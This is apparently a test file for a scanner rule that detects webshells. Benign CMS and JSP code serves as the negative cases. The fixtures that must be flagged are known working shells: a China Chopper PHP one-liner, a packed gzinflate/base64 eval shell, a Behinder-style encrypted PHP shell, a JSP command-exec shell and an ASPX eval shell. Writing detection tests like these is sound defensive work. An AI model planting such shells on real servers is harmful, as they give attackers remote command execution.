import { webScriptFacts } from '../../../test/helpers/log-users';
import { testRule } from '../../../test/helpers/rule-tester';
import rule from './webshell-content';

const WP_LIKE = `<?php
/** Avatar upload: images arrive base64-encoded. */
$data = base64_decode( $_POST['avatar'] );
file_put_contents( $upload_dir . '/avatar.png', $data );
$action = isset( $_REQUEST['action'] ) ? sanitize_key( $_REQUEST['action'] ) : '';
exec( 'convert ' . escapeshellarg( $tmp ) . ' -resize 64x64 out.png' );
$json = json_decode( file_get_contents( 'php://input' ), true );
if ( preg_replace( '/[^a-z0-9]/i', '', $_GET['slug'] ) ) { echo 'ok'; }
// Do not use eval($_POST['x']) style code here; the docs mention it only as a bad example?
`;

testRule(rule, {
  valid: [
    {
      name: 'CMS code with base64_decode, exec of constants and request input apart',
      facts: { webScripts: webScriptFacts({ '/var/www/html/wp-includes/avatar.php': WP_LIKE.replace(/^\/\/ Do not.*$/m, '') }) },
    },
    {
      name: 'JSP reading parameters without running anything',
      facts: {
        webScripts: webScriptFacts({
          '/var/lib/tomcat9/webapps/ROOT/search.jsp': '<% String q = request.getParameter("q"); out.println(q.length()); %>',
        }),
      },
    },
    {
      name: 'a webshell-looking .txt is not executed by the server',
      facts: { webScripts: webScriptFacts({ '/var/www/html/notes.txt': '<?php @eval($_POST["x"]); ?>' }) },
    },
  ],
  invalid: [
    {
      name: 'China Chopper one-liner in uploads',
      facts: { webScripts: webScriptFacts({ '/var/www/html/wp-content/uploads/2026/11/x.php': "<?php @eval($_POST['pass']);?>" }) },
      expect: [
        {
          severity: 'critical',
          path: '/var/www/html/wp-content/uploads/2026/11/x.php',
          title: /eval\/assert of request input/,
          evidence: /@eval\(\$_POST\['pass'\]\)/,
        },
      ],
    },
    {
      name: 'packed PHP shell on one huge line',
      facts: {
        webScripts: webScriptFacts({
          '/srv/www/site/cache/c.php': `<?php ${'$a="x";'.repeat(2000)} eval(gzinflate(base64_decode('${'A'.repeat(5000)}')));`,
        }),
      },
      expect: [{ severity: 'high', path: '/srv/www/site/cache/c.php', title: /decoded\/decompressed/ }],
    },
    {
      name: 'Behinder PHP, JSP and ASP shells in one tree',
      facts: {
        webScripts: webScriptFacts({
          '/usr/share/nginx/html/shell.php':
            '<?php @error_reporting(0); session_start(); $key="e45e329feb5d925b"; $post=file_get_contents("php://input"); $post=openssl_decrypt($post, "AES128", $key); @eval($post); ?>',
          '/var/www/app/cmd.jsp': '<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
          '/var/www/app/x.aspx': '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>',
        }),
      },
      expect: [
        { severity: 'critical', path: '/var/www/app/cmd.jsp', title: /JSP runs a command/ },
        { severity: 'critical', path: '/var/www/app/x.aspx', title: /ASP/ },
        { severity: 'critical', path: '/usr/share/nginx/html/shell.php', title: /Behinder/ },
      ],
    },
  ],
});
